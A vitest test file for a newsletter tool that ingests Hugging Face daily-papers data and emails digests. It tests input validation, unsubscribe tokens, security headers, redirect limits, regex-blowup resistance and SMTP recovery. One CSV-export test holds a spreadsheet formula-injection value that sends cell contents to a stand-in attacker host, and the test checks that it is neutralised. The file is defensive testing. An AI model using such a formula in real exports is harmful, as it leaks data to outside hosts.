import Database from "better-sqlite3";
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { simpleParser } from "mailparser";
import { describe, expect, it } from "vitest";
import { resolveSecret } from "../src/store/settings.js";
import { addConfirmedReader } from "../src/subscribers/manage.js";
import { findUnsubscribable } from "../src/subscribers/subscribe.js";
import { journalDir } from "../src/subscribers/unsubscribe-journal.js";
import { preferencesToken, unsubscribeToken } from "../src/util/tokens.js";
import { ROOT, runCli, SAMPLE_FILES, spawnCli, tempDir } from "./helpers.js";
import { addressList, context, frozenDigest, killedSend, ledger, project, servers, smtp } from "./project.js";
import { fakeClock, freePort, startSite } from "./site.js";

const RECORDED = join(ROOT, "tests", "fixtures", "daily_papers", "2024-12-12.json");
const recorded = () => JSON.parse(readFileSync(RECORDED, "utf8")) as Array<{ paper: Record<string, unknown> & { title: string; summary: string } }>;


describe("broken daily_papers JSON never stops a folder", () => {
  it("rejects a list of strings with the reason and still ingests the files after it", async () => {
    const p = project();
    const dumps = join(p.cwd, "mine");
    mkdirSync(dumps);
    p.env.PAPERMAIL_DUMPS_DIR = dumps;
    // As a scraper that wrote `[str(paper) for paper in papers]` saves it.
    writeFileSync(join(dumps, "a_strings.json"), JSON.stringify(recorded().map((e) => `{'paper': {'title': '${e.paper.title}'}}`)));
    writeFileSync(join(dumps, "b_good.json"), readFileSync(RECORDED));
    const r = await p.cli(["ingest", "--json"]);
    expect(r.code).toBe(1);
    const files = JSON.parse(r.stdout).files as Array<{ path: string; status: string; error: string | null; new: number }>;
    expect(files.find((f) => f.path.endsWith("a_strings.json"))).toMatchObject({ status: "rejected", error: expect.stringMatching(/a list of strings rather than daily_papers entries/) });
    expect(files.find((f) => f.path.endsWith("b_good.json"))).toMatchObject({ status: "ingested", new: 5 });
    // Recorded as rejected: the next run does not read it again, nor fail on it.
    const again = JSON.parse((await p.cli(["ingest", "--json"])).stdout).files as Array<{ path: string; status: string }>;
    expect(again.every((f) => f.status !== "ingested")).toBe(true);
  });

  it("reports a non-object entry by its index and keeps the papers around it", async () => {
    const p = project();
    const file = join(p.cwd, "mixed.json");
    writeFileSync(file, JSON.stringify([1, ...recorded(), "stray"]));
    const r = await p.cli(["ingest", file, "--json"]);
    const result = JSON.parse(r.stdout).files[0];
    expect(result).toMatchObject({ status: "ingested", new: 5 });
    expect(result.problems.map((x: { message: string }) => x.message)).toEqual([
      "entry 0: a number, not a daily_papers entry (an object); skipped",
      "entry 6: a string, not a daily_papers entry (an object); skipped",
    ]);
  });

  it("takes an empty list as a day with nothing listed yet, and fetch writes nothing for it", async () => {
    const p = project();
    const dumps = join(p.cwd, "mine");
    mkdirSync(dumps);
    p.env.PAPERMAIL_DUMPS_DIR = dumps;
    writeFileSync(join(dumps, "daily_papers_2024-12-13.json"), "[]\n");
    const first = await p.cli(["ingest", "--json"]);
    expect(first.code).toBe(0);
    expect(JSON.parse(first.stdout).files[0]).toMatchObject({ status: "ingested", papers: 0 });
    expect((await p.cli(["ingest"])).code).toBe(0);

    const server = createServer((_req, res) => res.writeHead(200, { "Content-Type": "application/json" }).end("[]"));
    await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
    servers.push({ close: () => new Promise<void>((r) => (server.closeAllConnections(), server.close(() => r()))) });
    p.env.PAPERMAIL_HF_API_URL = `http://127.0.0.1:${(server.address() as { port: number }).port}/api/daily_papers`;
    const fetched = await p.cli(["fetch", "--date", "2024-12-14"]);
    expect(fetched.code).toBe(0);
    expect(fetched.stdout).toMatch(/empty +2024-12-14: the list has no papers yet/);
    expect(readdirSync(dumps)).toEqual(["daily_papers_2024-12-13.json"]);
  });

  it("unwraps arXiv line breaks in titles and abstracts, keeping paragraphs", async () => {
    const p = project();
    const entries = recorded();
    entries[1]!.paper.title = "SAILER: Structure-aware Pre-trained Language Model for\n  Legal Case Retrieval";
    entries[1]!.paper.summary = "Legal case retrieval is a\n  specialised task.\n\nWe propose SAILER,\n  a model.";
    const file = join(p.cwd, "wrapped.json");
    writeFileSync(file, JSON.stringify(entries));
    await p.cli(["ingest", file]);
    // The same paper from the unwrapped recording is the same paper: one row, one key.
    await p.cli(["ingest", RECORDED]);
    const papers = JSON.parse((await p.cli(["papers", "--json"])).stdout) as Array<{ title: string; abstract: string }>;
    expect(papers).toHaveLength(5);
    const sailer = papers.find((x) => x.title.startsWith("SAILER"))!;
    expect(sailer.title).toBe("SAILER: Structure-aware Pre-trained Language Model for Legal Case Retrieval");
    expect(sailer.abstract).toBe("Legal case retrieval is a specialised task.\n\nWe propose SAILER, a model.");
  });

  it("unwraps the titles stored before, keeping each paper's key and link", async () => {
    const p = project();
    await p.cli(["ingest", RECORDED]);
    const before = JSON.parse((await p.cli(["papers", "--json"])).stdout) as Array<{ id: number; url: string; title: string }>;
    const { default: Database } = await import("better-sqlite3");
    const db = new Database(join(p.cwd, "var", "papermail.db"));
    db.prepare("UPDATE papers SET title = replace(title, ' for ', ' for' || char(10) || '  ') WHERE title LIKE 'SAILER%'").run();
    // What migration 011 runs on a database stored before it.
    const { unwrapStoredText } = await import("../src/store/unwrap-text.js");
    unwrapStoredText(db);
    db.close();
    const after = JSON.parse((await p.cli(["papers", "--json"])).stdout) as Array<{ id: number; url: string; title: string }>;
    expect(after).toEqual(before);
  });
});

describe("web and identities", () => {
  it("never gives a forgotten reader's id to the next subscriber", async () => {
    const p = project();
    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
    await p.cli(["subscribers", "add", "bob@example.org", "--confirmed"]);
    const ids = () => new Map((p.db().prepare("SELECT email, id FROM subscribers").all() as Array<{ email: string; id: number }>).map((r) => [r.email, r.id]));
    const bob = ids().get("bob@example.org")!;
    expect((await p.cli(["subscribers", "remove", "bob@example.org", "--forget"])).code).toBe(0);
    await p.cli(["subscribers", "add", "carol@example.org", "--confirmed"]);
    expect(ids().get("carol@example.org")).toBeGreaterThan(bob);
  });

  it("records a one-click unsubscribe while another process holds the write lock, and applies it once the lock is free", async () => {
    const site = await startSite();
    addConfirmedReader(site.ctx.db, "ada@example.org", new Date().toISOString());
    const id = (site.ctx.db.prepare("SELECT id FROM subscribers WHERE email = 'ada@example.org'").get() as { id: number }).id;
    const token = unsubscribeToken(resolveSecret(site.ctx.db, site.ctx.config.secret), 1, id);
    // A long ingest in another process: it holds the write lock for longer than the answer may wait.
    const other = new Database(site.ctx.config.dbPath);
    other.exec("BEGIN IMMEDIATE");
    const r = await site.post(`/unsubscribe/${token}`, "List-Unsubscribe=One-Click");
    expect(r.status).toBe(200);
    expect(await r.text()).toBe("Unsubscribed.\n");
    expect(readdirSync(journalDir(site.ctx.config.dbPath)).filter((f) => f.endsWith(".json"))).toHaveLength(1);
    other.exec("COMMIT");
    other.close();
    const status = () => (site.ctx.db.prepare("SELECT status FROM subscribers WHERE id = ?").get(id) as { status: string }).status;
    for (let i = 0; i < 100 && status() !== "unsubscribed"; i++) await new Promise((res) => setTimeout(res, 50));
    expect(status()).toBe("unsubscribed");
    expect(readdirSync(journalDir(site.ctx.config.dbPath)).filter((f) => f.endsWith(".json"))).toHaveLength(0);
    expect(site.logs.some((l) => /applied 1 unsubscribe that arrived while the database was busy/.test(l))).toBe(true);
  });

  it("sends a returning reader a working confirmation, within one a day", async () => {
    const clock = fakeClock();
    const site = await startSite({ clock });
    await site.post("/subscribe", { email: "ada@example.org" });
    expect(await site.mailCount(1)).toBe(1);
    const confirmLink = async (n: number) => /\/confirm\/[A-Za-z0-9_-]+/.exec((await site.smtp.parse(site.smtp.received[n]!)).text ?? "")![0];
    expect((await site.post(await confirmLink(0), {})).status).toBe(200);
    const id = (site.ctx.db.prepare("SELECT id FROM subscribers WHERE email = 'ada@example.org'").get() as { id: number }).id;
    const token = unsubscribeToken(resolveSecret(site.ctx.db, site.ctx.config.secret), 1, id);
    expect((await site.post(`/unsubscribe/${token}`, "List-Unsubscribe=One-Click")).status).toBe(200);
    // Back within the hour: an unsubscribe does not reset the limit, so nothing goes yet.
    clock.advance(3600_000);
    await site.post("/subscribe", { email: "ada@example.org" });
    const claims = () => (site.ctx.db.prepare("SELECT count(*) AS n FROM confirmation_sends WHERE subscriber_id = ?").get(id) as { n: number }).n;
    expect(claims()).toBe(1);
    expect(site.logs.some((l) => l.includes("confirmation email not sent: this address had one recently"))).toBe(true);
    // The next day it goes, and its link works.
    clock.advance(24 * 3600_000);
    await site.post("/subscribe", { email: "ada@example.org" });
    expect(await site.mailCount(2)).toBe(2);
    const again = await site.post(await confirmLink(1), {});
    expect(await again.text()).toContain("You are subscribed");
    // A flood of requests for a pending address still gets one email a day.
    await site.post("/subscribe", { email: "bob@example.org" });
    await site.post("/subscribe", { email: "bob@example.org" });
    await site.mailCount(3);
    expect(site.smtp.received).toHaveLength(3);
  });

  it("accepts links signed with the generated secret after PAPERMAIL_SECRET replaces it only when PAPERMAIL_SECRET_PREVIOUS lists it", async () => {
    const p = project();
    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
    await p.cli(["ingest", SAMPLE_FILES[0]!]);
    await p.cli(["send-digest"]);
    const eml = readFileSync(join(p.cwd, "var", "outbox", "1", "0000001-ada@example.org.eml"), "utf8");
    const token = /\/unsubscribe\/([A-Za-z0-9._-]+)>/.exec(eml)![1]!;
    const secret = "a-new-secret-set-by-the-operator-0123456789";
    // Only the operator's secrets sign links: a generated one nobody lists is dropped with the rotation.
    expect(findUnsubscribable(context(p.cwd, { ...p.env, PAPERMAIL_SECRET: secret }), token)).toBeUndefined();
    expect(findUnsubscribable(context(p.cwd, { ...p.env, PAPERMAIL_SECRET: secret, PAPERMAIL_SECRET_PREVIOUS: "generated" }), token)).toBeDefined();
    // And a later rotation that no longer lists it drops it for good.
    expect(findUnsubscribable(context(p.cwd, { ...p.env, PAPERMAIL_SECRET: "x".repeat(40), PAPERMAIL_SECRET_PREVIOUS: secret }), token)).toBeUndefined();
  });

  it("answers private pages with no-store and the security headers; public pages stay cacheable", async () => {
    const site = await startSite();
    addConfirmedReader(site.ctx.db, "ada@example.org", new Date().toISOString());
    const id = (site.ctx.db.prepare("SELECT id FROM subscribers").get() as { id: number }).id;
    const page = await fetch(`${site.base}/preferences/${preferencesToken(resolveSecret(site.ctx.db, site.ctx.config.secret), id)}`);
    expect(page.status).toBe(200);
    expect(await page.text()).toContain("ada@example.org");
    expect(page.headers.get("cache-control")).toBe("no-store");
    for (const h of ["content-security-policy", "x-frame-options", "x-content-type-options", "referrer-policy"]) expect(page.headers.get(h)).toBeTruthy();
    expect((await fetch(`${site.base}/feed.xml`)).headers.get("cache-control")).toMatch(/^public/);
  });

  it("says in full what is wrong with a feed filter", async () => {
    const site = await startSite();
    const r = await fetch(`${site.base}/feed.json?min_upvotes=abc`);
    expect(r.status).toBe(400);
    expect(await r.text()).toBe("min_upvotes: must be a whole number from 0 to 100000\n");
    const t = await fetch(`${site.base}/feed.json?topics=${encodeURIComponent("---, speech")}`);
    expect(await t.text()).toMatch(/^topics: a topic needs a letter or digit/);
  });

  it("matches any topic in time linear in the text: a hostile topic over a large abstract takes milliseconds", async () => {
    const { topicMatcher, parseTopics } = await import("../src/model/topics.js");
    // Shapes that made backtracking patterns: many short words, hyphens, repeats, a near miss at the end.
    // "a - - ... - z" compiled to 28 runs of [\s-]+ around literal hyphens: 40 characters of " -" took minutes.
    const hostile = parseTopics(
      [
        Array.from({ length: 30 }, () => "a").join("-").slice(0, 59),
        `a ${Array.from({ length: 28 }, () => "-").join(" ")} z`,
        "a a a a a a a a a a a a a a a a a a a a a a a a a a a a a b",
        "x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- x- y",
      ].join(","),
    );
    const abstract = `${"a-a a-".repeat(200_000)}a ${" -".repeat(100_000)} ${"x- ".repeat(100_000)}`;
    const started = performance.now();
    const matched = topicMatcher(hostile)({ title: "t", abstract });
    const ms = performance.now() - started;
    expect(matched).toEqual([hostile[0]]);
    expect(ms).toBeLessThan(1000);
  });
});

describe("what papermail writes for others to open", () => {
  it("neutralises spreadsheet formulas in the CSV export, and the import reads them back as typed", async () => {
    const p = project();
    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed", "--topics", '=HYPERLINK("http://evil.example/?"&A1), +speech, @vision']);
    const csv = (await p.cli(["subscribers", "export"])).stdout;
    const row = csv.split("\n")[1]!;
    expect(row).toContain(`"'=hyperlink(""http://evil.example/?""&a1), +speech, @vision"`);
    for (const cell of row.split(",")) expect(cell).not.toMatch(/^[=+\-@]/);
    const q = project();
    await q.cli(["subscribers", "import", "-", "--confirmed"], csv);
    const topics = JSON.parse((q.db().prepare("SELECT topics FROM subscribers").get() as { topics: string }).topics);
    expect(topics).toEqual(['=hyperlink("http://evil.example/?"&a1)', "+speech", "@vision"]);
  });

  it("loads nothing from another server in an email: every remote URL is a link", async () => {
    const p = project();
    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
    await p.cli(["ingest", SAMPLE_FILES[1]!]);
    await p.cli(["send-digest"]);
    const mail = await simpleParser(readFileSync(join(p.cwd, "var", "outbox", "1", "0000001-ada@example.org.eml")));
    const html = String(mail.html);
    expect(html).not.toMatch(/fonts\.googleapis|@import|<link\b/i);
    const remote = [...html.matchAll(/(\w[\w-]*)\s*=\s*"(https?:[^"]*)"|url\(\s*['"]?(https?:[^)'"]*)/gi)];
    expect(remote.length).toBeGreaterThan(10);
    // A namespace name is never loaded; anything else remote must be a link.
    for (const m of remote.filter((x) => !x[1]?.toLowerCase().startsWith("xmlns"))) expect(m[1]?.toLowerCase()).toBe("href");
  });

  it("suggests the setting a typo meant, transpositions included", async () => {
    const r = await runCli(["status"], { cwd: tempDir(), env: { PAPERMAIL_PROT: "8080" } });
    expect(r.stderr).toMatch(/PAPERMAIL_PROT is not a papermail setting and is ignored \(did you mean PAPERMAIL_PORT\?\)/);
  });
});

describe("fetch against hostile or absent servers", () => {
  /** A local API answering every request with `handler`. */
  async function api(handler: Parameters<typeof createServer>[1]) {
    const server = createServer(handler);
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    servers.push({ close: () => new Promise<void>((resolve) => (server.closeAllConnections(), server.close(() => resolve()))) });
    return `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  }
  const base = () => ({ dumpsDir: join(tempDir(), "dumps"), userAgent: "papermail/test", backoffMs: 10, attempts: 2 });

  it("refuses an answer over the size cap as it streams in, announced or not, and writes nothing", async () => {
    const { fetchDailyPapers } = await import("../src/fetch/daily-papers.js");
    // 3 MB of a list, sent without a Content-Length, against a 1 MB cap.
    const huge = await api((_req, res) => {
      res.writeHead(200, { "Content-Type": "application/json" });
      res.write("[");
      for (let i = 0; i < 3000; i++) res.write(`${i ? "," : ""}"${"x".repeat(1024)}"`);
      res.end("]");
    });
    const o = base();
    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `${huge}/api/daily_papers`, maxBytes: 1024 * 1024 })).rejects.toThrow(
      /the day.s answers are larger than 1 MB \(PAPERMAIL_FETCH_MAX_MB\)/,
    );
    const announced = await api((_req, res) => res.writeHead(200, { "Content-Length": String(500 * 1024 * 1024) }).flushHeaders());
    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `${announced}/api`, maxBytes: 1024 * 1024 })).rejects.toThrow(/larger than 1 MB/);
    expect(() => readdirSync(o.dumpsDir)).toThrow();
  });

  it("follows redirects within the API's origin only", async () => {
    const { fetchDailyPapers } = await import("../src/fetch/daily-papers.js");
    const elsewhere = await api((_req, res) => res.writeHead(200, { "Content-Type": "application/json" }).end(readFileSync(RECORDED)));
    const origin = await api((req, res) => {
      if (req.url!.startsWith("/old")) return res.writeHead(301, { Location: req.url!.replace("/old", "/api") }).end();
      if (req.url!.startsWith("/away")) return res.writeHead(302, { Location: `${elsewhere}/api/daily_papers` }).end();
      res.writeHead(200, { "Content-Type": "application/json" }).end(readFileSync(RECORDED));
    });
    const o = base();
    expect((await fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `${origin}/old/daily_papers` })).entries).toBe(5);
    await expect(fetchDailyPapers("2024-12-13", new Date(), { ...o, apiUrl: `${origin}/away/daily_papers` })).rejects.toThrow(
      new RegExp(`redirected to ${elsewhere}/api/daily_papers, another server; papermail follows redirects only within ${origin}`),
    );
    expect(readdirSync(o.dumpsDir)).toHaveLength(1);
  });

  it("says why an offline fetch failed: DNS, a refused connection, TLS", async () => {
    const { fetchDailyPapers } = await import("../src/fetch/daily-papers.js");
    const o = base();
    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: "http://no-such-host.invalid/api" })).rejects.toThrow(/cannot resolve no-such-host\.invalid \(DNS: E[A-Z_]+\)/);
    const closed = await api(() => undefined);
    const port = new URL(closed).port;
    await servers.pop()!.close();
    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: `http://127.0.0.1:${port}/api` })).rejects.toThrow(/127\.0\.0\.1:\d+ refused the connection/);
    // A plain HTTP server spoken to over https:// fails its TLS handshake.
    const plain = await api((_req, res) => res.end("[]"));
    await expect(fetchDailyPapers("2024-12-12", new Date(), { ...o, apiUrl: plain.replace("http:", "https:") })).rejects.toThrow(/TLS with 127\.0\.0\.1:\d+ failed/);
  });

  it("a fetch held by a trickling server never holds up ingest in the scheduler", async () => {
    const { createScheduler } = await import("../src/scheduler/scheduler.js");
    let trickle: NodeJS.Timeout | undefined;
    const slow = await api((_req, res) => {
      res.writeHead(200, { "Content-Type": "application/json" });
      res.write("[");
      trickle = setInterval(() => res.write(" "), 100);
      res.on("close", () => clearInterval(trickle));
    });
    const p = project();
    const ctx = context(p.cwd, { ...p.env, PAPERMAIL_HF_API_URL: `${slow}/api`, PAPERMAIL_DUMPS_DIR: join(ROOT, "samples") });
    const lines: string[] = [];
    const scheduler = createScheduler(ctx, (l) => lines.push(l));
    const fetching = scheduler.run("fetch");
    const first = await Promise.race([scheduler.run("ingest").then(() => "ingest"), fetching.then(() => "fetch")]);
    expect(first).toBe("ingest");
    expect(lines.some((l) => /^ingest: 4 file\(s\), 4 ingested/.test(l))).toBe(true);
    await scheduler.stop();
    clearInterval(trickle);
  });

  it("routes node-cron's own warnings through the log, without colour codes", async () => {
    const { createScheduler } = await import("../src/scheduler/scheduler.js");
    const p = project();
    // Every second: a blocked event loop makes node-cron miss a run and warn.
    const ctx = context(p.cwd, { ...p.env, PAPERMAIL_INGEST_CRON: "* * * * * *", PAPERMAIL_DUMPS_DIR: join(p.cwd, "none") });
    const lines: string[] = [];
    const scheduler = createScheduler(ctx, (l) => lines.push(l));
    try {
      scheduler.start();
      await new Promise((r) => setTimeout(r, 1100));
      const until = Date.now() + 2500;
      while (Date.now() < until); // block
      await new Promise((r) => setTimeout(r, 1500));
    } finally {
      await scheduler.stop();
    }
    expect(lines.some((l) => /^scheduler: missed execution/.test(l))).toBe(true);
    expect(lines.join("\n")).not.toContain("\x1b");
  }, 20_000);
});

describe("links go where the site is", () => {
  it("a configured installation refuses to publish without PAPERMAIL_PUBLIC_URL, naming it", async () => {
    const server = await smtp();
    const p = project(server.url);
    delete (p.env as Record<string, string>).PAPERMAIL_PUBLIC_URL;
    await p.cli(["subscribers", "add", "ada@example.org", "--confirmed"]);
    await p.cli(["ingest", SAMPLE_FILES[0]!]);
    const r = await p.cli(["send-digest"]);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/PAPERMAIL_PUBLIC_URL: not set; every link in a digest \(unsubscribe included\) would point at http:\/\/localhost:8080/);
    expect(server.received).toHaveLength(0);
    expect((await p.cli(["status"])).stdout).toMatch(/^public URL +http:\/\/localhost:8080 \(PAPERMAIL_PUBLIC_URL not set: digests are not published until it is\)$/m);
    expect((await p.cli(["status"])).stdout).toMatch(/^mail +SMTP smtp:\/\/127\.0\.0\.1:\d+$/m);
  });

  it("a trial links to the port its server runs on, whichever terminal sends the digest; status names the outbox", async () => {
    const cwd = tempDir();
    const port = String(await freePort());
    const serve = spawnCli(["serve", "--no-scheduler"], { cwd, env: { PAPERMAIL_PORT: port } });
    await new Promise<void>((resolve, reject) => {
      serve.stdout!.on("data", (d: Buffer) => d.toString().includes("serving http://") && resolve());
      serve.on("exit", () => reject(new Error("serve exited")));
    });
    serve.kill("SIGTERM");
    await runCli(["subscribers", "add", "ada@example.org", "--confirmed"], { cwd });
    await runCli(["ingest"], { cwd });
    expect((await runCli(["send-digest"], { cwd })).code).toBe(0);
    const eml = readFileSync(join(cwd, "var", "outbox", "1", "0000001-ada@example.org.eml"), "utf8");
    expect(eml).toContain(`List-Unsubscribe: <http://localhost:${port}/unsubscribe/`);
    expect(eml).not.toContain("localhost:8080");
    const status = (await runCli(["status"], { cwd })).stdout;
    expect(status).toMatch(new RegExp(`^public URL +http://localhost:${port} \\(PAPERMAIL_PUBLIC_URL not set: fine for a trial\\)$`, "m"));
    expect(status).toMatch(/^mail +outbox var\/outbox \(\.eml files; no PAPERMAIL_SMTP_URL set\)$/m);
  });

  it("papers prints each paper's links under its title", async () => {
    const p = project();
    await p.cli(["ingest", RECORDED]);
    const out = (await p.cli(["papers", "--limit", "1"])).stdout.split("\n");
    expect(out[1]).toMatch(/^ {15}https:\/\/huggingface\.co\/papers\/\d{4}\.\d{5} {2}https:\/\/arxiv\.org\/pdf\/\d{4}\.\d{5}/);
  });
});

describe("sending through a throttling storm", () => {
  it("counts a storm heard by every connection as one event, and delivers everyone in the same run", async () => {
    // Every message meets "454 Throttling failure" for the first 1.5 s, as a relay's rate limit does.
    let stormUntil = 0;
    const server = await smtp({ fault: () => (Date.now() < stormUntil ? "454" : undefined) });
    const p = project(server.url);
    await p.cli(["subscribers", "import", "-", "--confirmed"], addressList(40));
    await p.cli(["ingest", SAMPLE_FILES[0]!]);
    const { deliverDigest } = await import("../src/deliver/engine.js");
    const { ctx, id, mailer } = await frozenDigest(p);
    // Sessions open before the storm: all eight connections hear its first answers at once.
    stormUntil = Date.now() + 1500;
    const report = await deliverDigest({ ...ctx, mailer, secret: "s".repeat(32), owner: "test:1:1" }, id, { concurrency: 8, throttle: { firstPauseMs: 300, limit: 4 } });
    await mailer.close();
    expect(report).toMatchObject({ sent: 40, failed: 0, unknown: 0, complete: true });
    expect(report.stopped).toBeUndefined();
  });
});

describe("a sender killed mid-digest", () => {
  it("leaves unknown only the messages whose data had started; the rest are sent by the next run, one copy each", async () => {
    // Every recipient takes 100-500 ms to be accepted: at any moment most sessions wait before their data.
    const { server, ...p } = await killedSend(200, 40, () => "slow-rcpt");
    const report = JSON.parse((await p.cli(["send-digest", "--json"])).stdout);
    const counts = server.countsByRecipient();
    const rows = ledger(p.db());
    const unknown = rows.filter((r) => r.status === "unknown");
    // Sixteen sessions were busy at the kill; only a message whose data was on its way may have arrived.
    expect(unknown.length).toBeLessThanOrEqual(4);
    expect(report.recovered).toBe(unknown.length);
    for (const row of rows.filter((r) => r.status !== "unknown")) {
      expect(row.status).toBe("sent");
      expect(counts.get(row.email)).toBe(1);
    }
    expect(readdirSync(join(p.cwd, "var", "sending"))).toEqual([]);
  }, 120_000);
});
